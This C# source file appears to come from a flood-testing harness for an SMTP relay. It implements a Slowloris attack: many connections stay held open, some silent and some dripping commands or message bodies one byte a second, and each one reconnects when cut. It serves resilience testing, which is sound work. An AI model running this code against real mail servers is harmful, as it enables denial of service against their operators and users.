using Relay.Flood.Load;

namespace Relay.Flood.Attacks;

/// <summary>
/// Holds many connections that do next to nothing: a third says nothing at all, a third sends a command letter by letter, a third a
/// body octet by octet. What is cut comes back.
/// </summary>
internal sealed class Slowloris : IAttack
{
    private const int ConnectionsPerAttacker = 10;

    // Fifty connections of a network: a relay takes some hundred of one at the most, and all are to be held.
    private const int AttackersPerNetwork = 5;
    private const int Spread = SourceAddresses.AttackersPerNetwork / AttackersPerNetwork;

    private static readonly TimeSpan Drip = TimeSpan.FromSeconds(1);
    private readonly int _connections;

    public Slowloris(int connections) => _connections = connections;

    public Task RunAsync(AttackContext context, CancellationToken cancellationToken) =>
        Task.WhenAll(Enumerable.Range(0, _connections).Select(index => HoldAsync(index, context, cancellationToken)));

    private static async Task HoldAsync(int index, AttackContext context, CancellationToken cancellationToken)
    {
        var attacker = index / ConnectionsPerAttacker * Spread;
        var length = context.End - context.Clock.Now;
        using var ended = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        ended.CancelAfter(length > TimeSpan.Zero ? length : TimeSpan.Zero);
        while (!ended.IsCancellationRequested)
        {
            SmtpTalk? talk = null;
            try
            {
                context.Tally.CountDue();
                talk = await context.OpenAsync(attacker, context.TargetOf(index), withHello: index % 3 > 0, ended.Token);
                if (talk is not null)
                {
                    context.Tally.CountBegun();
                    context.Tally.CountLanded();
                    await DripAsync(talk, index, attacker, context, ended.Token);
                }
            }
            catch (Exception e) when (AttackContext.IsExpected(e))
            {
                if (!ended.IsCancellationRequested)
                {
                    context.Tally.CountBroken();
                }
            }

            talk?.Cut();
            await Task.Delay(Drip, context.Clock.Time, ended.Token).ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
        }
    }

    private static async Task DripAsync(SmtpTalk talk, int index, int attacker, AttackContext context, CancellationToken cancellationToken)
    {
        if (index % 3 == 2)
        {
            await talk.WriteAsync(
                $"MAIL FROM:<a@a{attacker}.attacker.example>\r\nRCPT TO:<{context.Settings.Recipient}>\r\nDATA\r\n", cancellationToken);
            for (var reply = 0; reply < 3; reply++)
            {
                var said = await talk.ReadAsync(cancellationToken);
                context.Tally.Replies.Add(said);
                if (reply == 0 && said.IsPositive)
                {
                    context.Tally.CountAdmitted(attacker);
                }

                if (said.Code >= 400)
                {
                    return;
                }
            }
        }

        var said421 = CountClosingAsync(talk, context, cancellationToken);
        while (!said421.IsCompleted && !cancellationToken.IsCancellationRequested)
        {
            if (index % 3 > 0)
            {
                await talk.WriteAsync("x", cancellationToken);
            }

            await Task.WhenAny(said421, Task.Delay(Drip, context.Clock.Time, cancellationToken));
        }

        await said421;
    }

    private static async Task CountClosingAsync(SmtpTalk talk, AttackContext context, CancellationToken cancellationToken) =>
        context.Tally.Replies.Add(await talk.ReadAsync(cancellationToken));
}
